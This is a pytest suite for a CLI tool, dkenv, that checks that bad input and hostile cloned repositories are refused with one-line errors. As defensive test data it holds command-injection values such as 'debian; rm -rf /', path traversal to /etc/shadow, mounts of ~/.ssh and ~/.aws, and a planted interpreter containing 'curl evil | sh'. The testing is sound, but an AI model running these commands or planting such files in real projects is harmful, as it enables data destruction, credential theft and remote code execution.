"""The catalogue of bad input: every case ends in one line on stderr and exit 2 (usage or
config) or 1 (runtime), never a traceback (3), and leaves every file of the project as
it was. Config cases go through `dkenv dockerfile`, which loads and validates the whole
file without an Engine; faults of dkenv's own state must not stop a command at all."""
from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from dkenv.cli import main
from dkenv.project.schema import SCHEMA, SERVICE_SCHEMA

WRONG_TYPE = {"project.name": "1", "image.base": "1", "image.python": "3.11", "image.python_from": "1",
              "image.apt": '"gcc"', "image.setup": "true", "image.install": "[]", "image.requirements": '"r.txt"',
              "image.extra_ca": "false", "image.extras": '"test"', "image.groups": "1", "image.workdir": "[]",
              "run.command": '["python"]', "run.ports": '"8000"', "run.bind": "127",
              "run.env": '"A=1"', "run.env_file": "1", "run.read_only": '".git"', "run.writable": "[1]", "run.docker": "\"yes\"",
              "shims.commands": '"python"', "shims.venv_scripts": '"yes"',
              "shims.exclude": '"x"', "debug.port": '"5678"', "debug.wait": "1",
              "ide.mounts": '"~/.vscode"', "ide.env": "[1]", "ide.site_packages": '"yes"',
              "production.command": '["gunicorn"]', "production.workers": '"4"', "production.port": "8000.0",
              "production.release": "false", "production.env": '["SECRET"]', "production.extras": '"pg"',
              "production.groups": "{}", "production.requirements": '"requirements.txt"', "production.apt": '"libpq5"',
              "production.healthcheck": "200"}
WRONG_SERVICE_TYPE = {"template": "1", "version": "16", "image": "true", "env": "[]", "ports": '"5432"',
                      "command": "[1]", "healthcheck": "0", "data": '"yes"', "depends_on": '"db"', "timeout": '"9"',
                      "stop_timeout": "1.5", "init": '"db/create.sql"'}


def _type_cases():
    cases = []
    for table, keys in SCHEMA.items():
        for key in keys:
            value = WRONG_TYPE[f"{table}.{key}"]
            cases.append(pytest.param(f"[{table}]\n{key} = {value}\n", 2, [f"{table}.{key}", "must be"],
                                      id=f"type-{table}.{key}"))
    for key in SERVICE_SCHEMA:
        cases.append(pytest.param(f'[services.db]\ntemplate = "redis"\n{key} = {WRONG_SERVICE_TYPE[key]}\n'
                                  if key != "template" else f"[services.db]\ntemplate = {WRONG_SERVICE_TYPE[key]}\n",
                                  2, [f"services.db.{key}", "must be"], id=f"type-services.{key}"))
    return cases


VALUE_CASES = [
    ("[project]\nname = \"\"\n", ["project.name", "must not be empty"]),
    ("[project]\nname = \"Shop\"\n", ["project.name", "lowercase"]),
    ("[project]\nname = \"a b\"\n", ["project.name"]),
    ("[project]\nname = \"-x\"\n", ["project.name"]),
    (f"[project]\nname = \"{'a' * 64}\"\n", ["project.name"]),
    ("[image]\npython_from = \"sytem\"\n", ["image.python_from", 'did you mean "system"']),
    ("[image]\ninstall = \"poetyr\"\n", ["image.install", 'did you mean "poetry"']),
    ("[image]\ninstall = \"mamba\"\n", ["image.install", "not one of"]),
    ("[image]\nextra_ca = \"all\"\n", ["image.extra_ca"]),
    ("[image]\npython = \"3\"\n", ["image.python", "like \"3.12\""]),
    ("[image]\npython = \"3.99\"\n", ["image.python", "can provide Python 3.8 to 3.15"]),
    ("[image]\npython = \"2.7\"\n", ["image.python"]),
    ("[image]\npython = \"python3\"\n", ["image.python"]),
    ("[image]\npython = \"3.11.4\"\n", ["image.python"]),
    ("[image]\nbase = \"python:3.11-slim-bookworm\"\npython = \"3.10\"\n",
     [".dkenv.toml:3: image.python", "provides Python 3.11, not 3.10", 'base = "python:3.10-slim-bookworm"']),
    ("[image]\nbase = \"python:3.12\"\npython = \"3.11\"\npython_from = \"image\"\n",
     ["image.python", 'base = "python:3.11"', 'python_from = "uv"']),
    ("[image]\nbase = \"debian:bookworm-slim\"\npython = \"3.12\"\npython_from = \"system\"\n",
     [".dkenv.toml:4: image.python_from", "ships Python 3.11, not 3.12", 'python_from = "uv"']),
    ("[image]\nbase = \"ubuntu:24.04\"\npython_from = \"image\"\n", ["image.python_from", "no Python of its own"]),
    ("[image]\nbase = \"\"\n", ["image.base", "must name an image"]),
    ("[image]\nbase = \"bad image!!\"\n", ["image.base", "not an image reference"]),
    ("[image]\nbase = \"Debian:12\"\n", ["image.base"]),
    ("[image]\nbase = \"debian:12:13\"\n", ["image.base"]),
    ("[image]\nbase = \"debian; rm -rf /\"\n", ["image.base"]),
    ("[image]\napt = [\"Foo\"]\n", ["image.apt", "not a Debian package"]),
    ("[image]\napt = [\"gcc; reboot\"]\n", ["image.apt"]),
    ("[image]\napt = [\"-y\"]\n", ["image.apt"]),
    ("[image]\nsetup = \"missing.sh\"\n", ["image.setup", "not found"]),
    ("[image]\nsetup = \"../outside.sh\"\n", ["image.setup", "outside the project"]),
    ("[image]\nrequirements = [\"nope.txt\"]\n", ["image.requirements", "not found"]),
    ("[image]\nworkdir = \"nope\"\n", ["image.workdir", "not found"]),
    ("[image]\nworkdir = \"../x\"\n", ["image.workdir", "outside the project"]),
    ("[image]\nworkdir = \"/etc\"\n", ["image.workdir", "outside the project"]),
    ("[image]\nextras = [\"a b\"]\n", ["image.extras", "not a name"]),
    ("[image]\ngroups = [\"\"]\n", ["image.groups", "not a name"]),
    ("[image]\nrequirements = [\"../x.txt\"]\n", ["image.requirements", "outside the project"]),
    ("[image]\nrequirements = [\"/etc/passwd\"]\n", ["image.requirements", "outside the project"]),
    ("[run]\nbind = \"garbage\"\n", ["run.bind", "not an IP address"]),
    ("[run]\nbind = \"\"\n", ["run.bind", "not an IP address"]),
    ("[run]\nbind = \"999.1.1.1\"\n", ["run.bind"]),
    ("[run]\nbind = \"127.0.0.1:80\"\n", ["run.bind"]),
    ("[run]\nbind = \"example.com\"\n", ["run.bind"]),
    ("[run]\nports = [\"abc\"]\n", ["run.ports", "not a port"]),
    ("[run]\nports = [0]\n", ["run.ports", "1-65535"]),
    ("[run]\nports = [70000]\n", ["run.ports", "1-65535"]),
    ("[run]\nports = [\"1:2:3\"]\n", ["run.ports"]),
    ("[run]\nports = [\"-1\"]\n", ["run.ports"]),
    ("[run]\nports = [\"8000/udp\"]\n", ["run.ports"]),
    ("[run]\nports = [\"18112:80\", \"18112:81\"]\n", ["run.ports", "published twice"]),
    ("[run]\nports = [8000]\n[services.web]\ncommand = \"x\"\nports = [8000]\n", ["services.web.ports", "twice"]),
    ("[run]\nports = [5678]\n[debug]\nport = 5678\n", ["debug.port", "also in run.ports"]),
    ("[run]\nenv = { \"1A\" = \"x\" }\n", ["run.env", "not a valid variable name"]),
    ("[run]\nenv = { \"A-B\" = \"x\" }\n", ["run.env"]),
    ("[run]\nenv = { \"\" = \"x\" }\n", ["run.env"]),
    ("[run]\nenv_file = \"/etc/os-release\"\n", ["run.env_file", "outside the project"]),
    ("[run]\nenv_file = \"/etc/shadow\"\n", ["run.env_file", "outside the project"]),
    ("[run]\nenv_file = \"../.env\"\n", ["run.env_file", "outside the project"]),
    ("[run]\nenv_file = \".env.missing\"\n", ["run.env_file", "not found"]),
    ("[run]\nread_only = [\"../x\"]\n", ["run.read_only", "outside the project"]),
    ("[run]\nread_only = [\"/etc\"]\n", ["run.read_only", "absolute"]),
    ("[run]\nread_only = [\".\"]\n", ["run.read_only", "the project itself"]),
    ("[run]\nread_only = [\"sub/..\"]\n", ["run.read_only", "the project itself"]),
    ("[run]\nread_only = [\"\"]\n", ["run.read_only", "not a path"]),
    ("[run]\nread_only = [\".dkenv/shims\"]\n", ["run.read_only", "dkenv's own folder"]),
    ("[run]\nwritable = [\".dkenv\"]\n", ["run.writable", "dkenv's own folder"]),
    ("[run]\nwritable = [\".gti\"]\n", ["run.writable", "not read-only by default", 'did you mean ".git"']),
    ("[run]\nwritable = [\"src\"]\n", ["run.writable", ".git, .vscode, .idea, .devcontainer, .envrc"]),
    ("[run]\nwritable = [\"../.git\"]\n", ["run.writable", "outside the project"]),
    ("[run]\nread_only = [\".git\"]\nwritable = [\"./.git/\"]\n", ["run.writable", "in run.read_only too"]),
    ("[run]\ncommand = 'python \"unterminated'\n", ["run.command", "cannot be split"]),
    ("[run]\ncommand = \"python 'x\"\n", ["run.command", "cannot be split"]),
    ("[debug]\nport = 70000\n", ["debug.port", "not a port"]),
    ("[debug]\nport = -1\n", ["debug.port"]),
    ("[ide]\nmounts = [\"/\"]\n", ["ide.mounts", "whole image"]),
    ("[ide]\nmounts = [\"/usr/lib\"]\n", ["ide.mounts", "hide part of the image's /usr/lib"]),
    ("[ide]\nenv = [\"HOME\"]\n", ["ide.env", "describes the host"]),
    ("[production]\ncommand = \"\"\n", ["production.command", "is empty"]),
    ("[production]\ncommand = 'gunicorn \"app'\n", ["production.command", "cannot be split"]),
    ("[production]\nrelease = 'alembic \"up'\n", ["production.release", "cannot be split"]),
    ("[production]\nport = 70000\n", ["production.port", "not a port"]),
    ("[production]\nworkers = -1\n", ["production.workers"]),
    ("[production]\nenv = { \"A-B\" = \"1\" }\n", ["production.env", "not a valid variable name"]),
    ("[production]\nextras = [\"pg; rm\"]\n", ["production.extras", "not a name"]),
    ("[production]\nrequirements = [\"missing.txt\"]\n", ["production.requirements", "not found"]),
    ("[production]\nrequirements = [\"../x.txt\"]\n", ["production.requirements", "outside the project"]),
    ("[production]\napt = [\"Libpq5\"]\n", ["production.apt", "not a Debian package"]),
    ("[production]\nhealthcheck = \"health\"\n", ["production.healthcheck", "URL path"]),
    ("[production]\nworker = 4\n", ["production.worker", 'did you mean "workers"']),
    ("[services.app]\ntemplate = \"redis\"\n", ["services.app", "host name"]),
    ("[services.Bad_Name]\ntemplate = \"redis\"\n", ["services.Bad_Name", "lowercase"]),
    ("[services.db]\ntemplate = \"postgress\"\n", ["services.db.template", 'did you mean "postgres"']),
    ("[services.db]\ntemplate = \"oracle\"\n", ["services.db.template", "the catalog"]),
    ("[services.db]\ntemplate = \"postgres\"\nversion = \"15; rm -rf /\"\n", ["services.db.version", "not an image tag"]),
    ("[services.db]\ntemplate = \"postgres\"\nversion = \"\"\n", ["services.db.version"]),
    ("[services.db]\ntemplate = \"postgres\"\nversion = \"16 17\"\n", ["services.db.version"]),
    ("[services.x]\nimage = \"redis:7 && echo\"\n", ["services.x.image", "not an image reference"]),
    ("[services.x]\nimage = \"\"\n", ["services.x.image"]),
    ("[services.x]\nimage = \"pg:15\"\nversion = \"16\"\n", ["services.x.version", "has a tag already"]),
    ("[services.w]\nenv = { A = \"1\" }\n", ["[services.w]", "no template, no image and no command"]),
    ("[services.w]\ncommand = \"x\"\nversion = \"1\"\n", ["services.w.version", "neither"]),
    ("[services.w]\ncommand = 'celery \"-A'\n", ["services.w.command", "cannot be split"]),
    ("[services.db]\ntemplate = \"redis\"\ndepends_on = [\"nope\"]\n", ["services.db.depends_on", "no service named"]),
    ("[services.a]\ncommand = \"x\"\ndepends_on = [\"b\"]\n[services.b]\ncommand = \"y\"\ndepends_on = [\"a\"]\n",
     ["depends_on", "dependency cycle"]),
    ("[services.a]\ncommand = \"x\"\ndepends_on = [\"a\"]\n", ["dependency cycle"]),
    ("[services.db]\ntemplate = \"redis\"\ntimeout = 0\n", ["services.db.timeout", "positive"]),
    ("[services.db]\ntemplate = \"redis\"\ntimeout = -5\n", ["services.db.timeout"]),
    ("[services.db]\ntemplate = \"redis\"\nstop_timeout = 99999\n", ["services.db.stop_timeout"]),
    ("[services.db]\ntemplate = \"redis\"\nports = [\"x\"]\n", ["services.db.ports"]),
    ("[services.db]\ntemplate = \"redis\"\nport = 6379\n", ["services.db.port", 'did you mean "ports"']),
    ("[services]\ndb = 1\n", ["services.db", "must be a table"]),
    ("services = 1\n", ["[services]", "must be a table"]),
    ("image = \"x\"\n", ["[image]", "must be a table"]),
    ("[imgae]\nbase = \"x\"\n", ["imgae", 'did you mean "image"']),
    ("[image]\nbsae = \"x\"\n", ["image.bsae", 'did you mean "base"']),
    ("[run]\ncomand = \"x\"\n", ["run.comand", 'did you mean "command"']),
    ("[image]\nbase = \"a\"\nbase = \"b\"\n", ["invalid TOML"]),
    ("[image\nbase = 1\n", ["invalid TOML"]),
    ("[image]\nbase = 'unterminated\n", ["invalid TOML"]),
    ("[image]\n[image]\n", ["invalid TOML"]),
    ("x = = 1\n", ["invalid TOML"]),
]

USAGE_CASES = [
    (["nosuchcommand"], 2, ["No such command"]),
    (["up", "--nosuch"], 2, ["No such option"]),
    (["up", "--pull", "sometimes"], 2, ["--pull"]),
    (["exec"], 2, ["Missing argument"]),
    (["logs", "--tail", "x"], 2, ["--tail takes a number"]),
    (["logs", "nosvc"], 2, ["no service named"]),
    (["init", "--python", "3"], 2, ["--python"]),
    (["init", "--python", "three"], 2, ["--python"]),
    (["init", "--base", "bad image!!"], 2, ["--base", "not an image reference"]),
    (["init", "--base", ""], 2, ["--base"]),
    (["init", "--service", "postgress"], 2, ['did you mean "postgres"']),
    (["init"], 2, ["already exists"]),
    (["-C", "/nonexistent/dir", "status"], 2, ["no such directory"]),
    (["down", "db"], 2, ["only makes sense with --purge"]),
    (["down", "--purge", "nosvc"], 2, ["no service named"]),
    (["hook", "tcsh"], 2, ["no hook for"]),
    (["activate", "--shell-code", "tcsh"], 2, ["no activation code"]),
    (["deactivate", "--shell-code", "tcsh"], 2, ["no activation code"]),
    (["add", "nope"], 2, ["not in the service catalog"]),
    (["add", "redis", "--as", "Bad_Name"], 2, ["service names are lowercase"]),
    (["debug"], 2, ["debugging is off"]),
    (["run"], 2, ["run.command is not set"]),
    (["exec", "-e", "NOEQUALS", "true"], 2, ["-e takes KEY=VALUE"]),
    (["-v", "dockerfile", "extra"], 2, ["unexpected extra argument"]),
]

GOOD = '[project]\nname = "shop"\n[image]\nbase = "python:3.11-slim-bookworm"\ninstall = "none"\n'


def snapshot(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


@pytest.fixture
def project(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("DOCKER_HOST", f"unix://{tmp_path}/no-engine.sock")
    monkeypatch.delenv("DKENV_PROJECT", raising=False)
    root = tmp_path / "shop"
    root.mkdir()
    (tmp_path / "outside.sh").write_text("echo outside\n")
    return root


def run_cli(root: Path, argv: list[str], capsys) -> tuple[int, str]:
    before = snapshot(root)
    code = main(["-C", str(root), *argv] if argv[:1] != ["-C"] else argv)
    err = capsys.readouterr().err
    assert snapshot(root) == before, "a failing command changed the project's files"
    return code, err


def assert_one_line(err: str, fragments: list[str]) -> None:
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 1 or lines[0].startswith("Usage:"), err
    assert "Traceback" not in err
    for fragment in fragments:
        assert fragment in err, (fragment, err)


@pytest.mark.parametrize("body, code, fragments", _type_cases())
def test_a_value_of_the_wrong_type(project, capsys, body, code, fragments):
    (project / ".dkenv.toml").write_text(body)
    got, err = run_cli(project, ["dockerfile"], capsys)
    assert got == code
    assert_one_line(err, fragments)


@pytest.mark.parametrize("body, fragments", VALUE_CASES, ids=[f"value-{i}" for i in range(len(VALUE_CASES))])
def test_a_bad_value(project, capsys, body, fragments):
    (project / ".dkenv.toml").write_text(body)
    got, err = run_cli(project, ["dockerfile"], capsys)
    assert got == 2
    assert_one_line(err, [".dkenv.toml", *fragments])


@pytest.mark.parametrize("argv, code, fragments", USAGE_CASES, ids=[" ".join(c[0]) or "none" for c in USAGE_CASES])
def test_bad_usage(project, capsys, argv, code, fragments):
    (project / ".dkenv.toml").write_text(GOOD)
    got, err = run_cli(project, argv, capsys)
    assert got == code, err
    assert "Traceback" not in err
    for fragment in fragments:
        assert fragment in err, (fragment, err)


@pytest.mark.parametrize("files, base, fragments", [
    ({"pyproject.toml": "[project]\nname = 'x'\nrequires-python = '>=3.8,<3.11'\n"}, "python:3.11-slim-bookworm",
     ["provides Python 3.11, which pyproject.toml requires-python '>=3.8,<3.11' does not allow",
      'base = "python:3.10-slim-bookworm"']),
    ({".python-version": "3.12\n"}, "python:3.11", ["provides Python 3.11, which .python-version '3.12'"]),
    ({"pyproject.toml": "[project]\nname = 'x'\nrequires-python = '>=3.16'\n"}, "debian:bookworm-slim",
     ["allows none of the Pythons dkenv can provide (3.8 to 3.15)", "set image.python"]),
])
def test_a_base_the_projects_python_constraint_refuses(project, capsys, files, base, fragments):
    for name, text in files.items():
        (project / name).write_text(text)
    (project / ".dkenv.toml").write_text(f'[image]\nbase = "{base}"\ninstall = "none"\n')
    got, err = run_cli(project, ["dockerfile"], capsys)
    assert got == 2
    assert_one_line(err, [".dkenv.toml", "image.python is not set", *fragments])


def test_not_utf8(project, capsys):
    (project / ".dkenv.toml").write_bytes(b"[project]\nname = \"caf\xe9\"\n")
    got, err = run_cli(project, ["dockerfile"], capsys)
    assert got == 2
    assert_one_line(err, ["not UTF-8"])


def test_no_project_here(project, capsys):
    got, err = run_cli(project, ["dockerfile"], capsys)
    assert got == 2
    assert_one_line(err, ["no .dkenv.toml", "dkenv init"])


def test_a_utf8_bom_is_accepted(project, capsys):
    (project / ".dkenv.toml").write_bytes(b"\xef\xbb\xbf" + GOOD.encode())
    got, _ = run_cli(project, ["tag"], capsys)
    assert got == 0


def test_localhost_binds_loopback(project, capsys):
    from dkenv.project import config

    (project / ".dkenv.toml").write_text(GOOD + '[run]\nbind = "localhost"\n')
    assert config.load(project).run.bind == "127.0.0.1"


@pytest.mark.parametrize("content", ["[1,2,3]", '{"broken', "", "null", '{"a": 1}'])
def test_a_corrupt_name_registry_is_kept_aside_and_reported_once(project, capsys, content):
    state = Path(os.environ["XDG_STATE_HOME"]) / "dkenv"
    state.mkdir(parents=True)
    (state / "projects.json").write_text(content)
    (project / ".dkenv.toml").write_text(GOOD)
    got, err = run_cli(project, ["tag"], capsys)
    assert got == 0
    assert err.count("not a table of project names") == 1
    assert json.loads((state / "projects.json").read_text())  # a good registry again
    got, err = run_cli(project, ["tag"], capsys)
    assert got == 0 and "not a table" not in err


def test_a_read_only_project_folder_is_one_line(project, capsys):
    if os.getuid() == 0:
        pytest.skip("root writes into read-only folders")
    project.chmod(0o555)
    try:
        got, err = run_cli(project, ["init", "-y"], capsys)
    finally:
        project.chmod(0o755)
    assert got == 1
    assert_one_line(err.splitlines()[-1], ["cannot write", "Permission denied"])


def test_foreign_files_in_the_shims_folder_stop_activation(project, capsys):
    (project / ".dkenv.toml").write_text(GOOD)
    shims = project / ".dkenv" / "shims"
    shims.mkdir(parents=True)
    (shims / "ls").write_text("#!/bin/sh\necho pwned\n")
    (shims / "ls").chmod(0o755)
    code = main(["-C", str(project), "activate", "--shell-code", "bash"])
    captured = capsys.readouterr()
    assert code == 1
    assert f"{shims / 'ls'} is in the shims folder but dkenv did not make it" in captured.err
    assert captured.out == ""  # nothing for the shell to evaluate
    assert (shims / "ls").read_text() == "#!/bin/sh\necho pwned\n"


# --- a hostile repository: what a cloned project ships to reach beyond itself ---

HOSTILE_CONFIG_CASES = [
    ('[ide]\nmounts = ["//home"]\n', ["ide.mounts", "'//home'", "holds every user's home (/home)"]),
    ('[ide]\nmounts = ["//@HOME@/.ssh"]\n', ["ide.mounts", "your credentials in @HOME@/.ssh"]),
    ('[ide]\nmounts = ["~/.ssh"]\n', ["ide.mounts", "your credentials in @HOME@/.ssh"]),
    ('[ide]\nmounts = ["~/.vscode/../.aws"]\n', ["ide.mounts", "your credentials in @HOME@/.aws"]),
    ('[ide]\nmounts = ["~/.vscode/../.."]\n', ["ide.mounts", "holds your home folder"]),
    ('[ide]\nmounts = ["~"]\n', ["ide.mounts", "holds your home folder"]),
    ('[ide]\nmounts = ["~/link-to-home"]\n', ["ide.mounts", "holds your home folder", "once its links are followed"]),
    ('[ide]\nmounts = ["/var/run"]\n', ["ide.mounts", "system's /var/run"]),
    ('[ide]\nmounts = ["/var/lib/docker"]\n', ["ide.mounts", "system's /var/lib/docker"]),
    ('[ide]\nmounts = ["/srv"]\n', ["ide.mounts", "neither a folder in your home nor an IDE's installation"]),
    ('[ide]\nmounts = ["~/.docker"]\n', ["ide.mounts", "@HOME@/.docker"]),
    ('[run]\nbind = "224.0.0.1"\nports = [8000]\n', ["run.bind", "multicast"]),
    ('[run]\nbind = "ff02::1"\nports = [8000]\n', ["run.bind", "multicast"]),
    ('[run]\nbind = "255.255.255.255"\nports = [8000]\n', ["run.bind", "broadcast"]),
    ('[run]\nenv_file = "link.env"\n', ["run.env_file", "outside the project"]),
    ('[image]\nsetup = "link.sh"\n', ["image.setup", "outside the project"]),
]


@pytest.fixture
def hostile(project):
    """The project with links a cloned repository may ship, and a home with a link to itself."""
    home = Path(os.environ["HOME"])
    home.mkdir(parents=True, exist_ok=True)
    (home / "link-to-home").symlink_to(home)
    (project / "link.env").symlink_to(project.parent / "outside.sh")
    (project / "link.sh").symlink_to(project.parent / "outside.sh")
    return project


@pytest.mark.parametrize("body, fragments", HOSTILE_CONFIG_CASES,
                         ids=[f"hostile-{i}" for i in range(len(HOSTILE_CONFIG_CASES))])
def test_a_hostile_config(hostile, capsys, body, fragments):
    home = os.environ["HOME"]
    (hostile / ".dkenv.toml").write_text(body.replace("@HOME@", home))
    got, err = run_cli(hostile, ["dockerfile"], capsys)
    assert got == 2
    assert_one_line(err, [".dkenv.toml", *(f.replace("@HOME@", home) for f in fragments)])


@pytest.mark.parametrize("link, target", [
    (".dkenv", ".."), (".dkenv", "elsewhere"), (".dkenv/run", "../../elsewhere"), (".dkenv/bin", "/usr/bin"),
    ("data", "../elsewhere"), ("data/dkenv", "../../elsewhere"), ("data/db", "/tmp"),
])
@pytest.mark.parametrize("argv", [["dockerfile"], ["up"], ["rehash"], ["ide", "vscode"], ["down"]])
def test_a_symlinked_folder_of_dkenvs_is_refused_before_anything_is_written(project, capsys, link, target, argv):
    (project / ".dkenv.toml").write_text(GOOD + '[services.db]\ntemplate = "redis"\n')
    (project.parent / "elsewhere").mkdir()
    (project / link).parent.mkdir(parents=True, exist_ok=True)
    (project / link).symlink_to(target)
    outside = {p: p.stat().st_mtime_ns for p in project.parent.iterdir()}
    got, err = run_cli(project, argv, capsys)
    assert got == 1
    assert_one_line(err, [f"{project / link} is a symbolic link", f"rm {project / link}"])
    assert {p: p.stat().st_mtime_ns for p in project.parent.iterdir()} == outside  # nothing written beside it
    assert list((project.parent / "elsewhere").iterdir()) == []


def test_a_foreign_interpreter_is_not_handed_to_the_ide(project, capsys):
    (project / ".dkenv.toml").write_text(GOOD)
    theirs = project / ".dkenv" / "bin" / "python"
    theirs.parent.mkdir(parents=True)
    theirs.write_text("#!/bin/sh\ncurl evil | sh\n")
    for target in ("vscode", "pycharm"):
        got, err = run_cli(project, ["ide", target], capsys)
        assert got == 1
        assert_one_line(err, [f"{theirs} is not dkenv's interpreter", f"dkenv ide {target} --force"])
    assert not (project / ".vscode").exists()
    (project / ".dkenv.toml").write_text(GOOD + "[debug]\nport = 5678\n")
    got, err = run_cli(project, ["debug", "--vscode"], capsys)
    assert got == 1
    assert_one_line(err, [f"{theirs} is not dkenv's interpreter"])
    assert not (project / ".vscode").exists()
    assert theirs.read_text() == "#!/bin/sh\ncurl evil | sh\n"


def test_console_scripts_named_like_host_commands_get_no_shim(project, capsys, monkeypatch):
    """Documented behaviour, not an error: a dependency's scripts named like host commands are
    left out (docs/shell.md, "Which venv scripts become shims")."""
    from dkenv.shell import venvscripts

    (project / ".dkenv.toml").write_text(GOOD)
    monkeypatch.setenv("PATH", "/nonexistent")
    hostile = ["sudoedit", "pkexec", "passwd", "ssh-add", "aws", "gh", "vim", "ls", "sudo"]
    monkeypatch.setattr(venvscripts, "listing", lambda p: [*hostile, "pytest"])
    assert main(["-C", str(project), "rehash"]) == 0
    made = {p.name for p in (project / ".dkenv" / "shims").iterdir()}
    assert "pytest" in made and not made & set(hostile)


@pytest.mark.parametrize("bind", ["0.0.0.0", "::", "192.168.1.20"])
def test_ports_beyond_this_machine_are_said_at_approval(project, capsys, bind):
    """Documented behaviour, not an error: `bind = "0.0.0.0"` publishes to the network, and the
    approval says so (docs/commands.md, allow)."""
    (project / ".dkenv.toml").write_text(GOOD + f'[run]\nbind = "{bind}"\nports = [8000]\n')
    assert main(["-C", str(project), "allow"]) == 0
    err = capsys.readouterr().err
    assert f"  - ports 8000 published on {bind} (run.bind): other machines" in err
    assert "Traceback" not in err
